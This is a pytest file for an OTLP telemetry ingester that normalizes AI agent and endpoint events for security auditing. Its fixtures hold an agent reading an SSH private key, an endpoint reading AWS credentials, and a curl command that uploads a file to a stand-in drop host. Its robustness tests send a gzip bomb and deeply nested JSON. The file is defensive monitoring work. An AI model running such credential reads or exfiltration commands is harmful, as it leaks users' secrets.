"""OTLP in, normalized events out: the real OpenTelemetry Python SDK sends each
source family over HTTP and gRPC, and the archive, read back with DuckDB and
pyarrow as an auditor would, holds the normalized events field by field. Bad
input gets the right status and loses nothing that was accepted."""
import gzip
import json
import re
import socket
import threading
import time
import urllib.error
import urllib.request

import pytest
from conftest import HEAVY, Vigil, duck, events_glob
from conftest import duck, events_glob

T0 = 1773154800  # 2026-03-10T15:00:00Z


def sdk_send(endpoint, protocol, logs=(), spans=()):
    """Sends (resource, body, attrs, t) logs and (resource, name, attrs, t) spans with the OTel SDK."""
    from opentelemetry._logs import LogRecord, SeverityNumber
    from opentelemetry.sdk._logs import LoggerProvider
    from opentelemetry.sdk._logs.export import SimpleLogRecordProcessor
    from opentelemetry.sdk.resources import Resource
    from opentelemetry.sdk.trace import TracerProvider
    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
    from opentelemetry.trace import SpanKind

    if protocol == "http-json":
        from otlp_json import JsonLogExporter, JsonSpanExporter
        mk_log, mk_span = (lambda: JsonLogExporter(endpoint + "/v1/logs")), (lambda: JsonSpanExporter(endpoint + "/v1/traces"))
    elif protocol == "grpc":
        from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter
        from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter
        ep = endpoint.replace("http://", "")
        mk_log, mk_span = (lambda: OTLPLogExporter(endpoint=ep, insecure=True)), (lambda: OTLPSpanExporter(endpoint=ep, insecure=True))
    else:
        from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter
        from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
        mk_log, mk_span = (lambda: OTLPLogExporter(endpoint=endpoint + "/v1/logs")), (lambda: OTLPSpanExporter(endpoint=endpoint + "/v1/traces"))
    for res, body, attrs, t in logs:
        lp = LoggerProvider(resource=Resource.create(res))
        lp.add_log_record_processor(SimpleLogRecordProcessor(mk_log()))
        lp.get_logger("test").emit(LogRecord(timestamp=int(t * 1e9), observed_timestamp=int(t * 1e9),
                                             severity_number=SeverityNumber.INFO, body=body, attributes=attrs))
        lp.shutdown()
    for res, name, attrs, t in spans:
        tp = TracerProvider(resource=Resource.create(res))
        tp.add_span_processor(SimpleSpanProcessor(mk_span()))
        sp = tp.get_tracer("test").start_span(name, kind=SpanKind.CLIENT, start_time=int(t * 1e9), attributes=attrs)
        sp.end(end_time=int(t * 1e9) + 5_000_000)
        tp.shutdown()


CLAUDE = {"service.name": "claude-code", "service.version": "2.1.230", "os.type": "darwin"}
FAMILIES_LOGS = [
    (CLAUDE, "claude_code.tool_result",
     {"event.name": "tool_result", "session.id": "s-gina", "user.email": "gina@example.com", "tool_name": "Read",
      "success": "true", "decision_source": "config", "tool_parameters": json.dumps({"file_path": "/Users/gina/.ssh/id_ed25519"})},
     T0),
    (CLAUDE, "claude_code.tool_result",
     {"event.name": "tool_result", "session.id": "s-gina", "user.email": "gina@example.com", "tool_name": "Bash",
      "success": "false", "decision_source": "user_temporary",
      "tool_parameters": json.dumps({"bash_command": "curl", "full_command": "curl -X POST -F f=@/tmp/x https://drop.example.net/u"})},
     T0 + 1),
    ({"service.name": "endpoint-agent"}, "open",
     {"host.name": "dev-hank-01", "user.name": "hank", "event.category": "file", "event.action": "open",
      "file.path": "/home/hank/.aws/credentials", "process.pid": 48211},
     T0 + 2),
]
FAMILIES_SPANS = [
    ({"service.name": "ai-gateway"}, "chat claude-sonnet-4-5",
     {"gen_ai.operation.name": "chat", "gen_ai.request.model": "claude-sonnet-4-5", "gen_ai.usage.input_tokens": 1200,
      "gen_ai.usage.output_tokens": 350, "user.email": "oscar@example.com", "gen_ai.conversation.id": "s-oscar"},
     T0 + 3),
    ({"service.name": "mcp-gateway"}, "tools/call slack_post_message",
     {"mcp.method.name": "tools/call", "gen_ai.tool.name": "slack_post_message", "mcp.session.id": "mcp-dana-1",
      "server.address": "mcp.slack.com", "server.port": 443, "user.email": "dana@example.com"},
     T0 + 4),
]


def rows(v, where="true"):
    cols = "kind, source, action, outcome, user, session, host, tool, path, domain, command, model, tokens_in, tokens_out, connector, product, interactive"
    return duck(f"select {cols} from read_parquet('{events_glob(v)}', hive_partitioning=true) where {where} order by time")


@pytest.mark.parametrize("protocol", ["http", "grpc", "http-json"])
def test_every_source_family_is_normalized_field_by_field(vigil_factory, protocol):
    v = vigil_factory()
    sdk_send(v.grpc if protocol == "grpc" else v.http, protocol, FAMILIES_LOGS, FAMILIES_SPANS)
    assert v.stop() == 0, v.log()
    got = rows(v)
    by_kind = {}
    for r in got:
        by_kind.setdefault((r[0], r[1]), []).append(r)
    assert len(got) == 5, got
    read, bash = by_kind[("file_read", "agent")][0], by_kind[("tool_call", "agent")][0]
    assert read[2:10] == ("read", "success", "gina@example.com", "s-gina", None, "Read", "/Users/gina/.ssh/id_ed25519", None)
    assert bash[3] == "failure" and bash[7] == "Bash" and bash[10].startswith("curl -X POST") and bash[16] is True
    hank = by_kind[("file_read", "endpoint")][0]
    assert (hank[4], hank[6], hank[8]) == ("hank", "dev-hank-01", "/home/hank/.aws/credentials")
    model = by_kind[("model_call", "ai_gateway")][0]
    assert (model[4], model[5], model[11], model[12], model[13]) == ("oscar@example.com", "s-oscar", "claude-sonnet-4-5", 1200, 350)
    post = by_kind[("connector_action", "mcp_gateway")][0]
    assert (post[2], post[4], post[5], post[7], post[9], post[14]) == ("post", "dana@example.com", "mcp-dana-1", "slack_post_message", "mcp.slack.com", "slack")
    # Attributes no column takes are kept, resource ones prefixed.
    attrs = duck(f"select attrs['resource.os.type'], attrs['terminal.type'] from read_parquet('{events_glob(v)}') where tool = 'Read'")
    assert attrs[0][0] == "darwin"


def test_the_same_records_as_otlp_json_and_protobuf_become_the_same_events(vigil_factory):
    """JSON bodies are read by their own fast reader, protobuf by the wire walk:
    the same SDK records give the same events (the id hashes the normalized
    content), escaped JSON strings inside attributes included."""
    v = vigil_factory()
    sdk_send(v.http, "http", FAMILIES_LOGS)
    sdk_send(v.http, "http-json", FAMILIES_LOGS)
    assert v.stop() == 0, v.log()
    src = f"read_parquet('{events_glob(v)}', hive_partitioning=true)"
    ids = duck(f"select event_id, count(*), count(distinct (time, kind, user, session, tool, path, command, attrs::varchar)) from {src} group by 1")
    assert len(ids) == len(FAMILIES_LOGS) and all(n == 2 and distinct == 1 for _, n, distinct in ids), ids
    # The command came inside `tool_parameters`, a JSON string escaped in the JSON body.
    commands = duck(f"select command from {src} where tool = 'Bash'")
    assert commands == [("curl -X POST -F f=@/tmp/x https://drop.example.net/u",)] * 2, commands


def post(url, body, ctype="application/x-protobuf", encoding=None, method="POST"):
    req = urllib.request.Request(url, data=body, method=method)
    if ctype:
        req.add_header("Content-Type", ctype)
    if encoding:
        req.add_header("Content-Encoding", encoding)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read(), dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read(), dict(e.headers)


def json_logs(n, user="json@example.com", t=T0):
    return json.dumps({"resourceLogs": [{
        "resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "claude-code"}}]},
        "scopeLogs": [{"logRecords": [{
            "timeUnixNano": str(int((t + i) * 1e9)),
            "body": {"stringValue": "claude_code.user_prompt"},
            "attributes": [{"key": "event.name", "value": {"stringValue": "user_prompt"}},
                           {"key": "session.id", "value": {"stringValue": "s-json"}},
                           {"key": "user.email", "value": {"stringValue": user}},
                           {"key": "prompt_length", "value": {"intValue": "42"}}],
        } for i in range(n)]}]}]}).encode()


def test_otlp_json_is_accepted_and_answered_in_json(vigil_factory):
    v = vigil_factory()
    status, body, headers = post(v.http + "/v1/logs", json_logs(3), "application/json")
    assert status == 200 and headers["content-type"].startswith("application/json")
    assert json.loads(body) in ({}, {"partialSuccess": None})
    # gzip, and a body without resource at all
    status, _, _ = post(v.http + "/v1/logs", gzip.compress(json_logs(2, "gz@example.com")), "application/json", "gzip")
    assert status == 200
    bare = json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": "hello"}}]}]}]}).encode()
    assert post(v.http + "/v1/logs", bare, "application/json")[0] == 200
    by_reference = lambda: re.findall(r'^vigil_requests_decoded_by_reference_total\{format="json",signal="log"\} (\d+)', v.metrics(), re.M)
    assert by_reference() == [], "the JSON reader read all of those"
    # A value with two kinds set (the reference keeps the last) is left to
    # the reference decoder: accepted all the same, and counted.
    raw = json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": "a", "intValue": "1"}}]}]}]}).encode()
    assert post(v.http + "/v1/logs", raw, "application/json")[0] == 200
    assert by_reference() == ["1"]
    assert v.stop() == 0
    counts = dict(duck(f"select coalesce(user, '-'), count(*) from read_parquet('{events_glob(v)}') group by 1"))
    assert counts == {"json@example.com": 3, "gz@example.com": 2, "-": 2}


def test_bad_input_gets_clear_errors_and_keeps_what_was_accepted(vigil_factory):
    v = vigil_factory(config={"ingest": {"max_body_bytes": 1 << 20}})
    assert post(v.http + "/v1/logs", json_logs(4, "before@example.com"), "application/json")[0] == 200

    status, body, headers = post(v.http + "/v1/logs", b"\xff\xfe garbage bytes \x00\x01")
    assert status == 400 and headers["content-type"] == "application/x-protobuf"
    from google.rpc import status_pb2  # shipped with the OTLP exporter's dependencies
    st = status_pb2.Status.FromString(body)
    assert st.code == 3 and "protobuf" in st.message

    from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
    from google.protobuf import json_format
    good = json_format.Parse(json_logs(2).decode(), ExportLogsServiceRequest()).SerializeToString()
    assert post(v.http + "/v1/logs", good[: len(good) // 2])[0] == 400  # truncated
    assert post(v.http + "/v1/logs", good, "text/plain")[0] == 415
    assert post(v.http + "/v1/logs", good, "application/x-protobuf", "br")[0] == 415
    status, body, _ = post(v.http + "/v1/logs", b'{"resourceLogs": [', "application/json")
    assert status == 400 and json.loads(body)["code"] == 3
    # snake_case keys are not OTLP/JSON: taken (unknown keys are ignored) and said.
    snake = json_logs(1, "snake@example.com").replace(b"resourceLogs", b"resource_logs")
    assert post(v.http + "/v1/logs", snake, "application/json")[0] == 200
    assert "its keys are snake_case" in v.log(), v.log()
    status, body, _ = post(v.http + "/v1/logs", b"x" * (2 << 20))
    assert status == 413
    # In OTLP's error format (a google.rpc.Status), naming the setting.
    assert "ingest.max_body_bytes" in status_pb2.Status.FromString(body).message
    status, body, _ = post(v.http + "/v1/logs", b"x" * (2 << 20), "application/json")
    assert status == 413 and "ingest.max_body_bytes" in json.loads(body)["message"]
    bomb = gzip.compress(b"\x00" * (32 << 20))
    assert len(bomb) < (1 << 20)
    assert post(v.http + "/v1/logs", bomb, "application/x-protobuf", "gzip")[0] == 413
    assert post(v.http + "/v1/logs", b"not gzip", "application/x-protobuf", "gzip")[0] == 400
    depth = 10_000  # built as text: Python's own encoder cannot nest this deep
    deep = '{"kvlistValue":{"values":[{"key":"k","value":' * depth + '{"stringValue":"leaf"}' + "}]}}" * depth
    nested = ('{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":' + deep + "}]}]}]}").encode()
    assert post(v.http + "/v1/logs", nested, "application/json")[0] == 400

    # Still up, and what came before and after is kept.
    assert post(v.http + "/v1/logs", good)[0] == 200
    assert urllib.request.urlopen(v.http + "/healthz").status == 200
    metrics = v.metrics()
    assert 'vigil_requests_total{transport="http",signal="log",status="bad_request"}' in metrics
    assert 'vigil_requests_total{transport="http",signal="log",status="too_large"} 3' in metrics, metrics
    assert v.stop() == 0
    counts = dict(duck(f"select user, count(*) from read_parquet('{events_glob(v)}') group by 1"))
    assert counts == {"before@example.com": 4, "json@example.com": 2}


@HEAVY
def test_a_full_pipeline_answers_429_and_loses_no_accepted_record(vigil_factory):
    # One batch of queue and 1 ms of patience: concurrent senders must be pushed back.
    v = vigil_factory(config={"ingest": {"queue_batches": 1, "submit_timeout": "1ms"}})
    codes, accepted, lock = [], [0], threading.Lock()
    body = json_logs(2000, "load@example.com")

    def sender():
        for _ in range(6):
            status, _, headers = post(v.http + "/v1/logs", body, "application/json")
            with lock:
                codes.append(status)
                if status == 200:
                    accepted[0] += 2000
                else:
                    assert status == 429 and headers.get("retry-after") == "1"

    threads = [threading.Thread(target=sender) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert 429 in codes, codes
    assert 200 in codes, codes
    assert v.stop() == 0
    total = duck(f"select count(*) from read_parquet('{events_glob(v)}')")[0][0]
    assert total == accepted[0]


def test_grpc_bad_input_and_metrics(vigil_factory):
    import grpc
    from opentelemetry.proto.collector.logs.v1 import logs_service_pb2_grpc
    from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

    started = time.time()
    v = vigil_factory(config={"ingest": {"max_body_bytes": 1 << 20}})
    ch = grpc.insecure_channel(f"127.0.0.1:{v.grpc_port}")
    stub = logs_service_pb2_grpc.LogsServiceStub(ch)
    raw = ch.unary_unary("/opentelemetry.proto.collector.logs.v1.LogsService/Export",
                         request_serializer=lambda b: b, response_deserializer=lambda b: b)
    with pytest.raises(grpc.RpcError) as e:
        raw(b"\xff\xff\xff\xff garbage", timeout=10)
    # Not worth retrying, and the sender is told what is wrong.
    assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "not a valid protobuf ExportLogsServiceRequest" in e.value.details()
    raw_spans = ch.unary_unary("/opentelemetry.proto.collector.trace.v1.TraceService/Export",
                               request_serializer=lambda b: b, response_deserializer=lambda b: b)
    # A span name that is not UTF-8 is taken, '?' for the bad byte; a cut one is refused.
    raw_spans(b"\x0a\x07\x12\x05\x12\x03\x2a\x01\xff", timeout=10)
    status, body, _ = post(v.http + "/v1/traces", b"\x0a\x07\x12\x05\x12\x03\x2a\x01\xff")
    assert status == 200, body
    with pytest.raises(grpc.RpcError) as e:
        raw_spans(b"\x0a\x07\x12\x05\x12\x03\x2a\x01", timeout=10)
    assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "not a valid protobuf ExportTraceServiceRequest" in e.value.details()
    status, body, _ = post(v.http + "/v1/traces", b"\x0a\x07\x12\x05\x12\x03\x2a\x01")
    assert status == 400, body
    with pytest.raises(grpc.RpcError) as e:
        raw(b"\x0a" + b"\xff\xff\xff\x0f" + b"x" * (2 << 20), timeout=10)
    # tonic refuses an over-limit message before decoding it, naming the limit.
    assert e.value.code() in (grpc.StatusCode.OUT_OF_RANGE, grpc.StatusCode.RESOURCE_EXHAUSTED)
    assert "1048576" in e.value.details()
    # Metrics likewise: an unreadable request is invalid, an over-limit one too large.
    raw_metrics = ch.unary_unary("/opentelemetry.proto.collector.metrics.v1.MetricsService/Export",
                                 request_serializer=lambda b: b, response_deserializer=lambda b: b)
    with pytest.raises(grpc.RpcError) as e:
        raw_metrics(b"\xff\xff\xff\xff garbage", timeout=10)
    assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "not a valid protobuf ExportMetricsServiceRequest" in e.value.details()
    with pytest.raises(grpc.RpcError) as e:
        raw_metrics(b"\x0a" + b"\xff\xff\xff\x0f" + b"x" * (2 << 20), timeout=10)
    assert e.value.code() in (grpc.StatusCode.OUT_OF_RANGE, grpc.StatusCode.RESOURCE_EXHAUSTED)
    assert raw_metrics(b"", timeout=10) == b""
    from google.protobuf import json_format
    req = json_format.Parse(json_logs(5, "grpc@example.com").decode(), ExportLogsServiceRequest())
    resp = stub.Export(req, timeout=10)
    assert not resp.HasField("partial_success") or resp.partial_success.rejected_log_records == 0
    # Far-future timestamps cannot be represented: refused through partial success, the rest kept.
    req.resource_logs[0].scope_logs[0].log_records[0].time_unix_nano = 2**64 - 1
    resp = stub.Export(req, timeout=10)
    assert resp.partial_success.rejected_log_records == 1 and "2262" in resp.partial_success.error_message
    time.sleep(0.2)
    m = v.metrics()
    assert 'vigil_records_received_total{signal="log",source="agent"} 9' in m, m
    assert 'vigil_records_rejected_total{signal="log"} 1' in m
    # The unreadable request is counted as a bad request, as over HTTP.
    assert 'transport="grpc",signal="log",status="bad_request"} 1' in m, m
    # The over-limit one, refused by tonic before vigil reads it, as too large.
    assert 'transport="grpc",signal="log",status="too_large"} 1' in m, m
    assert 'transport="grpc",signal="span",status="bad_request"} 1' in m, m
    assert 'transport="grpc",signal="metric",status="bad_request"} 1' in m, m
    assert 'transport="grpc",signal="metric",status="too_large"} 1' in m, m
    assert 'transport="grpc",signal="metric",status="ok"} 1' in m, m
    # Each stage says how long it worked: some time, and less than it has run.
    for stage in ("archive", "detect"):
        busy = re.search(rf"^vigil_{stage}_busy_seconds_total (\S+)$", m, re.M)
        assert busy, m
        assert 0 < float(busy.group(1)) < time.time() - started, busy.group(0)
    assert v.stop() == 0
    # 9 log records and the two spans whose name was repaired.
    assert duck(f"select count(*) from read_parquet('{events_glob(v)}')")[0][0] == 11
    assert duck(f"select count(*) from read_parquet('{events_glob(v)}') where attrs['span.name'] = '?'")[0][0] == 2


def test_json_log_format_gives_one_object_per_line(vigil_factory):
    v = vigil_factory(args=["--log-format", "json"])
    assert post(v.http + "/v1/logs", json_logs(1, "log@example.com"), "application/json")[0] == 200
    assert v.stop() == 0
    lines = [line for line in v.log_path.read_text().splitlines() if line.strip()]
    records = [json.loads(line) for line in lines]
    assert records and all(r["level"] in {"INFO", "WARN", "ERROR", "DEBUG"} for r in records)
    assert any(r["fields"].get("message") == "vigil is receiving OTLP" for r in records)


def test_text_log_to_a_file_is_plain_text_with_its_fields(vigil_factory):
    # Not a terminal: no colour codes, so grep and log shippers see key=value as written.
    v = vigil_factory()
    assert v.stop() == 0
    log = v.log_path.read_text()
    assert "\x1b[" not in log, log[:500]
    assert re.search(rf"vigil is receiving OTLP grpc=127\.0\.0\.1:{v.grpc_port} http=127\.0\.0\.1:{v.http_port}", log), log


def test_a_taken_port_is_named_at_exit_and_a_new_start_takes_another(tmp_path):
    # Another process holds the HTTP port: vigil exits naming it, and the test
    # harness (as CI on a shared machine needs) starts it again on a new one.
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        held.listen()
        port = held.getsockname()[1]
        v = Vigil(tmp_path / "vigil")
        v.http_port = port
        v.start()
        try:
            assert v.http_port != port
            assert f"cannot listen for OTLP/HTTP on 127.0.0.1:{port}: Address already in use" in v.log(), v.log()
            assert post(v.http + "/v1/logs", json_logs(1, "port@example.com"), "application/json")[0] == 200
        finally:
            assert v.stop() == 0, v.log()


@pytest.mark.parametrize("protocol", ["grpc", "http"])
def test_sdk_metrics_are_taken_over_both_transports(vigil_factory, protocol):
    """Claude Code's token counters, sent by the SDK's metric exporter (gzip
    over gRPC), arrive as metric events: one per data point, with the point's
    attributes, and the requests are counted as taken."""
    from opentelemetry.sdk.metrics import MeterProvider
    from opentelemetry.sdk.metrics.export import PeriodicExportingMetricReader
    from opentelemetry.sdk.resources import Resource

    v = vigil_factory()
    if protocol == "grpc":
        from opentelemetry.exporter.otlp.proto.grpc.metric_exporter import OTLPMetricExporter
        from opentelemetry.exporter.otlp.proto.grpc.exporter import Compression
        exporter = OTLPMetricExporter(endpoint=f"127.0.0.1:{v.grpc_port}", insecure=True,
                                      compression=Compression.Gzip)
    else:
        from opentelemetry.exporter.otlp.proto.http.metric_exporter import OTLPMetricExporter
        exporter = OTLPMetricExporter(endpoint=v.http + "/v1/metrics")
    reader = PeriodicExportingMetricReader(exporter, export_interval_millis=3_600_000)
    provider = MeterProvider(resource=Resource.create({"service.name": "claude-code"}),
                             metric_readers=[reader])
    tokens = provider.get_meter("com.anthropic.claude_code").create_counter(
        "claude_code.token.usage", unit="tokens")
    for kind, n in (("input", 1200), ("output", 300)):
        tokens.add(n, {"user.email": "metrics@example.com", "session.id": "s-metrics", "type": kind})
    provider.shutdown()  # one collection, exported once
    time.sleep(0.3)
    m = v.metrics()
    assert f'transport="{protocol}",signal="metric",status="ok"}} 1' in m, m
    assert 'vigil_records_received_total{signal="metric",source="agent"} 2' in m, m
    assert v.stop() == 0
    rows = duck(f"SELECT user, session, kind, attrs['metric.name'], attrs['metric.value'], attrs['type'] "
                f"FROM read_parquet('{events_glob(v)}') ORDER BY 6")
    assert rows == [
        ("metrics@example.com", "s-metrics", "metric", "claude_code.token.usage", "1200", "input"),
        ("metrics@example.com", "s-metrics", "metric", "claude_code.token.usage", "300", "output"),
    ], rows
